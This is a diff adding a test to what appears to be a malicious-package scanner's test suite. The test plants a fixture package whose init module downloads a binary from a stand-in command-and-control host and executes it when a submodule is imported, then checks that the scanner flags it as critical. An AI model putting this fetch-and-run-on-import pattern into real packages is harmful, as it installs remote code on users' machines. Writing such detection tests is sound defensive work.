@@ -898,3 +898,21 @@ def test_base64_wrapped_pickle_shipped_as_a_cache_file() -> None:
     rule = "unsafe-deserialization.malicious-file"
     assert rule in found_bytes(blob, "pkg/_pipeline_cache.b64")
     assert found_bytes(base64.b64encode(pickle.dumps([1, 2], protocol=4)), "pkg/c.b64") == {}
+
+
+def test_function_of_the_package_init_called_from_a_submodule_on_import(tmp_path: Path) -> None:
+    init = (
+        "import subprocess, urllib.request\n"
+        "def boot():\n"
+        "    urllib.request.urlretrieve('https://c2.example.invalid/b', '/tmp/b')\n"
+        "    subprocess.Popen(['/tmp/b'])\n"
+    )
+    sub = "from . import boot\nboot()\n"
+    files = {"pb/__init__.py": init, "pb/sub.py": sub}
+    result = scan_target(_write(tmp_path, build_wheel("pb", "1.0", files)))
+    assert any(
+        f.rule == "download-execute.drop-and-run"
+        and f.file == "pb/__init__.py"
+        and f.severity == Severity.CRITICAL
+        for f in result.findings
+    )
